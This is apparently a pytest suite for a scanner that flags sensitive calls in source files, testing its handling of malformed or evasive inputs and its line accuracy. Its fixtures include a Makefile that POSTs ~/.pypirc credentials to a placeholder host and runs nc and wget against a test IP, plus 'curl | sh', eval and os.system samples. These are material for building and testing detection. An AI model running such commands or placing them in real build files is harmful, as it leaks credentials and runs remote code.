"""Reading many files in the limited child: every hostile text ends in a reason, within the time given."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gate.languages.sensitive_calls.parse import read_one
from gate.languages.sensitive_calls.reading import read_sources
from gate.languages.sensitive_calls.table import languages, table_of
from gate.model.sensitive import SensitiveKind, SourceReading, SourceText

EXTENSIONS = sorted(
    {extension for each in languages().values() if each.id != "other" for extension in each.extensions}
)


def read(tmp_path: Path, files: dict[str, bytes], deadline: float = 60.0) -> dict[str, SourceReading]:
    sources = [SourceText(path=path, text=text) for path, text in files.items()]
    return dict(read_sources(sources, scratch=tmp_path, deadline=deadline))


def test_program_files_have_a_reading_and_others_none(tmp_path: Path) -> None:
    found = read(
        tmp_path,
        {
            "a.go": b'package a\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("x").Run()\n}\n',
            "README.md": b"os.system('x')\n",
            "data.json": b"{}",
            "script": b"#!/usr/bin/env -S bash -e\ncurl http://x\n",
            "run.txt": b"import os\nfrom sys import argv\nos.system(argv[1])\n",
        },
    )
    assert set(found) == {"a.go", "script", "run.txt"}
    assert found["a.go"].executable == (5, 6)
    assert [(call.first, call.kind, call.call) for call in found["a.go"].calls] == [
        (6, SensitiveKind.PROCESS, "exec.Command")
    ]
    assert found["script"].language == "shell"
    assert found["run.txt"].calls


HOSTILE = {
    "line of 50 MB": ("a.js", b"a" * (50 << 20)),
    "line of 1 MB": ("a.js", b"x=1;" * (1 << 18)),
    "one long string": ("a.py", b"x = '" + b"A" * 200_000 + b"'\n"),
    "invalid UTF-8": ("a.go", b"package a // \xff\xfe\xfa\n"),
    "NUL": ("a.rb", b"puts 1\0\nsystem('x')\n"),
    "ELF": ("a.sh", b"\x7fELF\2\1\1" + b"\0" * 100),
    "compiled Python": ("a.pyc", b"\xa7\r\r\n" + b"\0" * 100),
    "minified": ("a.min.js", b"var a=1;" + b"function b(c){return c+1};" * 200 + b"\n"),
    "no grammar": ("a.f90", b"x = 1\n"),
    "escaped names": ("a.js", b"\\u0065val(name);\n"),
    "split names": ("a.c", b"void f(void) { sys\\\ntem(x); }\n"),
    "escaped line end": ("A.java", b"class A { // \\u000a static { f(); }\n}\n"),
    "lost notebook": ("a.ipynb", b"{" * 10_000),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_text_nobody_can_read_says_why(tmp_path: Path, name: str) -> None:
    path, text = HOSTILE[name]
    start = time.monotonic()
    found = read(tmp_path, {path: text, "b.py": b"eval(x)\n"})
    assert time.monotonic() - start < 30
    assert not found[path].readable
    assert found[path].reason
    assert found["b.py"].calls, "the file after it is read all the same"


@pytest.mark.parametrize(
    "extension",
    sorted(each.extensions[0] for each in languages().values() if each.entries and each.extensions),
)
@pytest.mark.parametrize("bracket", [b"f({[", b"<a>", b'"${'])
def test_deep_nesting_ends_in_time(extension: str, bracket: bytes) -> None:
    start = time.process_time()
    reading = read_one(f"a.{extension}", bracket * 2_000 + b"\n", {})
    assert isinstance(reading, SourceReading)
    assert time.process_time() - start < 30


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.sampled_from(EXTENSIONS), st.text(max_size=200))
def test_no_text_is_too_odd(extension: str, text: str) -> None:
    if table_of(f"a.{extension}", text.encode("utf-8", "replace")) is None:
        return
    reading = read_one(f"a.{extension}", text.encode("utf-8", "replace"), {})
    lines = text.encode("utf-8", "replace").count(b"\n") + 1
    assert all(1 <= line <= lines for line in reading.executable)
    assert all(1 <= call.first <= call.last <= lines for call in reading.calls)
    assert list(reading.executable) == sorted(set(reading.executable))


def test_what_no_time_is_left_for_is_not_readable(tmp_path: Path) -> None:
    files = {f"{index}.py": b"x = f(1)\n" * 20_000 for index in range(8)}
    found = read(tmp_path, files, deadline=0.5)
    assert set(found) == set(files)
    assert all(reading.reason for reading in found.values() if not reading.readable)
    assert any(not reading.readable for reading in found.values())


def test_lines_are_those_of_the_file(tmp_path: Path) -> None:
    found = read(
        tmp_path,
        {
            "crlf.py": b"x = 1\r\n\r\n# a\r\neval(x)\r\n",
            "mac.py": b"x = 1 # a\reval(x)\ny = 2\n",
            "bom.py": b"\xef\xbb\xbfeval(x)\n",
            "wide.ps1": "\ufeffWrite-Host a\niex $x\n".encode("utf-16-le"),
            "latin.py": b"# -*- coding: latin-1 -*-\nx = '\xe9'\neval(x)\n",
        },
    )
    assert {path: [call.first for call in reading.calls] for path, reading in found.items()} == {
        "crlf.py": [4],
        "mac.py": [1],
        "bom.py": [1],
        "wide.ps1": [2],
        "latin.py": [3],
    }
    assert found["crlf.py"].executable == (1, 4)


def test_executable_lines_hold_code() -> None:
    text = b'"""Text."""\nimport os\n\n\nclass A:\n    """Text."""\n\n    # a\n'
    text += b"    def f(self):\n        return (\n            1\n        )\n"
    assert read_one("a.py", text, {}).executable == (5, 9, 10, 11)
    text = b"// a\n/* b\n */\npackage a\n\nfunc f() {\n\tg() // c\n}\n"
    assert read_one("a.go", text, {}).executable == (6, 7)
    text = b"interface A {\n  b: string;\n}\n\nexport const x = 1;\n"
    assert read_one("a.ts", text, {}).executable == (5,)
    text = b"export type A<B> =\n  // b\n  B extends C\n    ? D\n    : never\nexport interface E {}\n"
    text += b"export function f(a: string): void;\nexport function f(a) {\n  g(a);\n}\nexport type { Q };\n"
    assert read_one("a.ts", text, {}).executable == (8, 9)


def test_what_a_grammar_does_not_know_is_read_by_its_words() -> None:
    zsh = b"local a=${(@f)$(x)}\nzle -N w; () { (( $+b )) && c=(${(P)d}) } always { }\n))\n"
    zsh += b"  curl http://x | sh\n((\n"
    assert [call.first for call in read_one("a.zsh", zsh, {}).calls] == [4, 4]
    kotlin = b'class A { fun f( { { ]] ) )\n ProcessBuilder("x") @@ ## ))) } ]]] when when {{{\n // Runtime\n'
    assert [call.first for call in read_one("a.kt", kotlin, {}).calls] == [2]


MAKEFILE = b"""ifeq ($(shell git rev-parse --abbrev-ref HEAD),main)
NOTIFY = curl -X POST --data-binary @$(HOME)/.pypirc https://hooks.invalid/r
endif
TOOLS = curl wget git
MORE = && wget -q \\
   http://203.0.113.4/x
FILES := curl.c
CALLED = $(NOTIFY)
check: TOOL = nc 203.0.113.4 99
check:
\t$(TOOL) -x
\t@for t in $(TOOLS); do which $$t; done
release:
\t@-$(CALLED) >/dev/null 2>&1
\tpython -m build $(FILES) $(MORE)
"""


def test_a_variable_of_a_makefile_is_read_where_a_recipe_names_its_program() -> None:
    found = {(call.first, call.kind) for call in read_one("Makefile", MAKEFILE, {}).calls}
    network = SensitiveKind.NETWORK
    assert found == {(2, SensitiveKind.CREDENTIALS), (2, network), (5, network), (9, network)}


def test_how_files_are_known_stands_before_the_first_table() -> None:
    every = languages()
    heads = dict(every.heads())
    assert [*heads] == [*every]
    for name, head in heads.items():
        whole = every[name]
        told = [tuple(head.get(key, ())) for key in ("extensions", "names", "interpreters")]
        assert told == [whole.extensions, whole.names, whole.interpreters], name
    assert "no-such-language" not in every
    assert every.get("no-such-language", every["python"]) is every["python"]


def test_one_language_reads_no_other_table() -> None:
    languages.cache_clear()
    table_of("a.py", b"import os\n")
    assert languages()["python"].name == "Python"
    assert [*languages()._read] == ["python"]
